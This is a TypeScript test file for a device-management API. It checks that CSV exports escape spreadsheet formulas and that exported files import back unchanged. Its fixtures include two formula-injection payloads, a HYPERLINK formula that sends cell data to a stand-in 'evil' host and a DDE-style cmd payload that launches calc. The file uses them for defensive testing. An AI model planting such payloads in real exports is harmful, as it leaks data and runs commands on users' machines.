/**
 * Device CSV export and import over HTTP: values a spreadsheet would run as formulas are
 * exported behind a single quote, and an exported file imports back to the same values.
 */
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import type { Mac } from '../../server/domain/mac.js';
import { createHarness, type Harness } from '../helpers/harness.js';

const HEADER = ['mac', 'vendor', 'model', 'label', 'ownerExtension', 'hotdeskEnabled', 'location'];

/** Labels as an attacker (or an unlucky admin) might type them, and ordinary ones. */
const LABELS: Record<string, string> = {
  '001565000001': '=HYPERLINK("http://evil/?"&A1,"x")',
  '001565000002': "@SUM(1+1)*cmd|'/C calc'!A0",
  '001565000003': '+1 555 0100 lobby',
  '001565000004': `=${'A'.repeat(63)}`, // the longest label there is
  '001565000005': "'=already quoted",
  '001565000006': "'tis the reception desk",
  '001565000007': 'Desk 4.12 - window',
  '001565000008': 'a=b, "quoted"',
};
const ORDINARY = ['001565000006', '001565000007', '001565000008'];
const LOCATION = '-1 basement';
const OWNER = '+4930123';

async function seed(h: Harness): Promise<void> {
  const ok = (r: { status: number; body: unknown }) => expect(r.status, JSON.stringify(r.body)).to.equal(201);
  ok(await h.http.post('/api/v1/locations').set('Authorization', h.auth).send({ name: LOCATION, emergencyNumbers: ['911'] }));
  ok(await h.http.post('/api/v1/users').set('Authorization', h.auth).send({ extension: OWNER, displayName: 'Berlin', sipPassword: 'berlin-S3cret' }));
}

const exportRows = async (h: Harness) => {
  const r = await h.http.get('/api/v1/devices/export').set('Authorization', h.auth);
  expect(r.status).to.equal(200);
  expect(r.headers['content-type']).to.match(/^text\/csv/);
  return { text: r.text, rows: parse(r.text) as string[][] };
};

describe('device CSV: formula injection', () => {
  let h: Harness;
  let h2: Harness | null = null;

  beforeEach(async () => {
    h = createHarness();
    await seed(h);
    for (const [mac, label] of Object.entries(LABELS)) {
      const owned = mac === '001565000001';
      const r = await h.http
        .post('/api/v1/devices')
        .set('Authorization', h.auth)
        .send({ mac, vendor: 'yealink', model: owned ? '-T46U' : 'T46U', label, locationId: 1, ...(owned ? { ownerExtension: OWNER } : {}) });
      expect(r.status, JSON.stringify(r.body)).to.equal(201);
    }
  });
  afterEach(() => {
    h.destroy();
    h2?.destroy();
    h2 = null;
  });

  it('exports no cell a spreadsheet would run as a formula; ordinary values are unchanged', async () => {
    const { rows } = await exportRows(h);
    expect(rows[0]).to.deep.equal(HEADER);
    const byMac = new Map(rows.slice(1).map((r) => [r[0], r]));
    expect(byMac.size).to.equal(Object.keys(LABELS).length);

    for (const row of rows) {
      for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).to.not.match(/^[=+\-@\t\r]/);
    }
    expect(byMac.get('001565000001')).to.deep.equal([
      '001565000001', 'yealink', "'-T46U", `'=HYPERLINK("http://evil/?"&A1,"x")`, `'${OWNER}`, 'false', `'${LOCATION}`,
    ]);
    expect(byMac.get('001565000002')?.[3]).to.equal("'@SUM(1+1)*cmd|'/C calc'!A0");
    expect(byMac.get('001565000003')?.[3]).to.equal("'+1 555 0100 lobby");
    // Already behind a quote, but the import takes one off: one more, so it comes back as it was.
    expect(byMac.get('001565000005')?.[3]).to.equal("''=already quoted");
    for (const mac of ORDINARY) expect(byMac.get(mac)?.[3], mac).to.equal(LABELS[mac]);
    expect(byMac.get('001565000007')).to.deep.equal(['001565000007', 'yealink', 'T46U', 'Desk 4.12 - window', '', 'false', `'${LOCATION}`]);
  });

  it('imports an exported file back to the same values, into a fresh database', async () => {
    const { text } = await exportRows(h);
    h2 = createHarness();
    await seed(h2);
    const r = await h2.http.post('/api/v1/devices/import').set('Authorization', h2.auth).set('Content-Type', 'text/csv').send(text);
    expect(r.status, JSON.stringify(r.body)).to.equal(201);
    expect(r.body).to.include({ created: Object.keys(LABELS).length, updated: 0 });

    for (const [mac, label] of Object.entries(LABELS)) {
      const d = await h2.http.get(`/api/v1/devices/${mac}`).set('Authorization', h2.auth);
      expect(d.status).to.equal(200);
      expect(d.body.label, mac).to.equal(label);
      expect(d.body.locationId, mac).to.equal(1);
    }
    const first = (await h2.http.get('/api/v1/devices/001565000001').set('Authorization', h2.auth)).body;
    expect(first).to.include({ model: '-T46U', ownerExtension: OWNER });
    // And the second export is the first, byte for byte.
    expect((await exportRows(h2)).text).to.equal(text);
  });

  it('a hand-written file keeps values that merely contain a quote', async () => {
    const csv = `${HEADER.join(',')}\n001565000009,yealink,T46U,it's desk 9,,true,\n001565000010,yealink,T46U,'plain,,true,\n`;
    const r = await h.http.post('/api/v1/devices/import').set('Authorization', h.auth).set('Content-Type', 'text/csv').send(csv);
    expect(r.status, JSON.stringify(r.body)).to.equal(201);
    expect((await h.http.get('/api/v1/devices/001565000009').set('Authorization', h.auth)).body.label).to.equal("it's desk 9");
    expect((await h.http.get('/api/v1/devices/001565000010').set('Authorization', h.auth)).body.label).to.equal("'plain");
  });
});

describe('device CSV export of a large fleet', () => {
  it('comes in pieces with other work run in between, and holds every device once, in MAC order', async () => {
    const h = createHarness();
    try {
      const devices = 5_000; // three pieces
      const macs: string[] = [];
      for (let i = 0; i < devices; i++) {
        const mac = `0015650${i.toString(16).padStart(5, '0')}`;
        macs.push(mac);
        h.ctx.stores.devices.insert(
          { mac: mac as Mac, vendor: 'yealink', model: 'T46U', label: `desk ${i}`, ownerExtension: null, hotdeskEnabled: true, locationId: null, sipContact: null, sessionTimeout: null },
          h.clock.now(),
        );
      }
      // A phone request arriving meanwhile is a callback like these: it must not wait for the whole file.
      let between = 0;
      const pieces: string[] = [];
      for await (const piece of h.ctx.csv.export()) {
        pieces.push(piece);
        setImmediate(() => between++);
      }
      expect(pieces.length, 'header and three pieces').to.equal(4);
      expect(between, 'callbacks run before the export ended').to.be.at.least(2);
      const rows = parse(pieces.join('')) as string[][];
      expect(rows[0]).to.deep.equal(['mac', 'vendor', 'model', 'label', 'ownerExtension', 'hotdeskEnabled', 'location']);
      expect(rows.slice(1).map((r) => r[0])).to.deep.equal(macs);
      expect(rows[4001]).to.deep.equal([macs[4000], 'yealink', 'T46U', 'desk 4000', '', 'true', '']);
    } finally {
      h.destroy();
    }
  });
});
